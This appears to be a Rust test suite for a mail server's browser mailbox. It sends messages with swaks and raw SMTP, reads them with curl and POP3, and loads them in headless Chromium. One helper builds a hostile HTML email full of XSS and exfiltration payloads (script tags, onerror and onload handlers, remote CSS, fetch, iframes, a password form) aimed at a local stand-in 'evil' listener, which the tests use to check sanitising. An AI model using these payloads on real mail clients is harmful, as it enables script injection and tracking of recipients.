//! The mailbox in the browser: curl as a reader that keeps what it saves, and Chromium, which must
//! not do anything that a message says.

use std::{fs, net::TcpListener};

use serde_json::Value;

use crate::support::{Dialogue, Family, Lab, Server, run, text};

const PICTURE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/clients/porch.jpg");

fn curl(server: &Server, more: &[&str], target: &str) -> String {
    let url = format!("http://{}{target}", server.at("http", Family::V4));
    let words = ["--disable", "--silent", "--show-error", "--fail", "--max-time", "20", "--user", "bob:hungry"];
    run("curl", &[&words, more, &[&url]].concat())
}

fn list(server: &Server) -> Value {
    let list = curl(server, &["--header", "Accept: application/json"], "/lab/mail/");
    serde_json::from_str(&list).unwrap_or_else(|error| panic!("{error}: {list}"))
}

/// A message with a picture and a file comes by SMTP, is read and saved by HTTP, and is removed.
pub fn swaks_sends_and_curl_reads() {
    let lab = Lab::new();
    let server = lab.start(&[]);
    let file = lab.write("report.txt", "a report\n");
    let at = server.at("smtp", Family::V4).to_string();
    let envelope = ["--silent", "3", "--server", &at, "--from", "alice@crepes.fr", "--to", "bob@portico.test"];
    let content = ["--header", "Subject: Blåbær?", "--body", "Here is the porch.", "--attach-type", "image/jpeg", "--attach-name"];
    let (picture, file) = (format!("@{PICTURE}"), format!("@{}", text(&file)));
    let attached =
        ["../blåbær.jpg", "--attach", &picture, "--attach-type", "text/plain", "--attach-name", "a \"b\".txt", "--attach", &file];
    run("swaks", &[&envelope[..], &content, &attached].concat());

    let found = list(&server);
    assert_eq!((found["list"][0]["subject"].as_str(), found["list"][0]["from"].as_str()), (Some("Blåbær?"), Some("alice@crepes.fr")));
    let message = found["list"][0]["address"].as_str().expect("an address").to_owned();
    assert!(curl(&server, &[], &message).contains("\n-- the body\nHere is the porch.\n"));
    let saved = lab.path("saved");
    fs::create_dir(&saved).expect("the lab is writable");
    let save = ["--remote-header-name", "--remote-name", "--output-dir", text(&saved)];
    curl(&server, &save, &format!("{message}/2?as=file"));
    curl(&server, &save, &format!("{message}/3?as=file"));
    let picture = fs::read_dir(&saved).expect("it was saved").flatten().find(|file| file.path().extension().is_some_and(|it| it == "jpg"));
    let picture = picture.expect("the name was taken").path();
    assert!(fs::read(picture).ok() == fs::read(PICTURE).ok(), "the picture has changed");

    let source = curl(&server, &[], &format!("{message}/source"));
    let number = found["list"][0]["number"].to_string();
    let by_pop3 =
        run("curl", &["--disable", "--silent", "--user", "bob:hungry", &format!("pop3://{}/{number}", server.at("pop3", Family::V4))]);
    assert_eq!(source, by_pop3);

    let uid = found["list"][0]["uid"].as_str().expect("a uid");
    let (token, named) = (format!("token={}", found["token"].as_str().expect("a token")), format!("message={uid}"));
    curl(&server, &["--data-urlencode", &token, "--data-urlencode", &named], "/lab/mail/");
    assert!(list(&server)["list"].as_array().is_some_and(|left| left.iter().all(|row| row["uid"] != uid)));
    server.stop();
}

/// Whatever a message says, Chromium runs none of it, and asks nobody for anything: not a
/// connection reaches the one who sent it.
pub fn chromium_does_nothing_that_a_message_says() {
    let lab = Lab::new();
    let server = lab.start(&[]);
    let sender = TcpListener::bind("127.0.0.1:0").expect("a port is free");
    sender.set_nonblocking(true).expect("it can");
    let evil = format!("http://{}", sender.local_addr().expect("it is bound"));
    deliver(&server, &hostile(&evil));

    let found = list(&server);
    let message = found["list"][0]["address"].as_str().expect("an address").to_owned();
    // The fragment has Chromium open the frame, too.
    let page = chromium(&lab, &server, &format!("{message}#part-1"));
    assert!(page.contains("Dear customer") && page.contains("<iframe"), "{page}");
    let alone = chromium(&lab, &server, &format!("{message}/1?as=page"));
    assert!(alone.contains("Dear customer"), "{alone}");
    for shown in [&page, &alone] {
        assert!(!shown.contains("SCRIPT RAN"), "{shown}");
    }
    let visit = sender.accept();
    assert!(visit.is_err(), "the sender was told: {visit:?}");
    server.stop();
}

/// The form of the page, as a browser sends it.
pub fn chromium_deletes_by_the_form() {
    let lab = Lab::new();
    let server = lab.start(&["--set", "http.access-log=var/access.log"]);
    deliver(&server, "Subject: to be deleted\n\nNow.");
    let found = list(&server);
    let (message, count) = (found["list"][0]["address"].as_str().expect("an address"), found["messages"].as_u64().expect("a number"));
    // A page of the same origin presses the button, since nobody is there to do it.
    let script = format!(
        "const page = open('{message}'), wait = setInterval(() => {{ if (page.document.forms.length) {{ clearInterval(wait); \
         page.document.forms[0].requestSubmit() }} }}, 100)"
    );
    let pressing = format!("<!DOCTYPE html><body onload=\"{script}\">");
    fs::write(lab.data().join("www/pressing.html"), pressing).expect("the lab is writable");
    chromium(&lab, &server, "/pressing.html");
    let left = list(&server);
    server.stop();
    let log = fs::read_to_string(lab.data().join("var/access.log")).unwrap_or_default();
    assert_eq!(left["messages"].as_u64(), Some(count - 1), "{left}\n{log}");
}

fn deliver(server: &Server, message: &str) {
    let mut smtp = Dialogue::with(server.at("smtp", Family::V4));
    smtp.hear("220 ");
    smtp.say("HELO lab").hear("250 ");
    smtp.say("MAIL FROM:<evil@crepes.fr>").hear("250 ");
    smtp.say("RCPT TO:<bob@portico.test>").hear("250 ");
    smtp.say("DATA").hear("354 ");
    message.lines().for_each(|line| {
        smtp.say(line);
    });
    smtp.say(".").hear("250 ");
    smtp.say("QUIT").hear("221 ");
}

fn hostile(evil: &str) -> String {
    format!(
        "From: \"<script>document.title='SCRIPT'+' RAN'</script>\" <evil@crepes.fr>
Subject: <img src=x onerror=\"document.title='SCRIPT'+' RAN'\"> {evil}
Content-Type: text/html

<html><head><base href={evil}/base/><meta http-equiv=refresh content='0;url={evil}/refresh'>
<link rel=preconnect href={evil}><LINK rel=stylesheet href={evil}/style.css><link rel=prefetch href={evil}/prefetch>
<style>@import url({evil}/import.css); body {{ background: url({evil}/background) }} @font-face {{ font-family: x; src: url({evil}/font) }}</style>
</head><body onload=\"location='{evil}/onload'\"><script>document.write('SCRIPT' + ' RAN'); fetch('{evil}/fetch')</script>
<img src=x onerror=\"location='{evil}/onerror'\"><img src={evil}/pixel.gif><picture><source srcset={evil}/source><img></picture>
<form action={evil}/form><input name=password type=password autofocus></form><iframe src={evil}/frame></iframe>
<object data={evil}/object></object><embed src={evil}/embed><video src={evil}/video poster={evil}/poster autoplay></video>
<svg onload=\"location='{evil}/svg'\"><image href={evil}/image /><foreignObject><iframe src={evil}/inner></iframe></foreignObject></svg>
<h2>Dear customer</h2><p>Click <a href={evil}/click ping={evil}/ping target=_top>here</a>.</p></body></html>"
    )
}

/// What a page has become once it is there.
fn chromium(lab: &Lab, server: &Server, target: &str) -> String {
    let url = format!("http://bob:hungry@{}{target}", server.at("http", Family::V4));
    let profile = format!("--user-data-dir={}", text(&lab.path("chromium")));
    let words = [
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-popup-blocking",
        "--virtual-time-budget=4000",
        "--dump-dom",
        &profile,
        &url,
    ];
    run("chromium", &words)
}
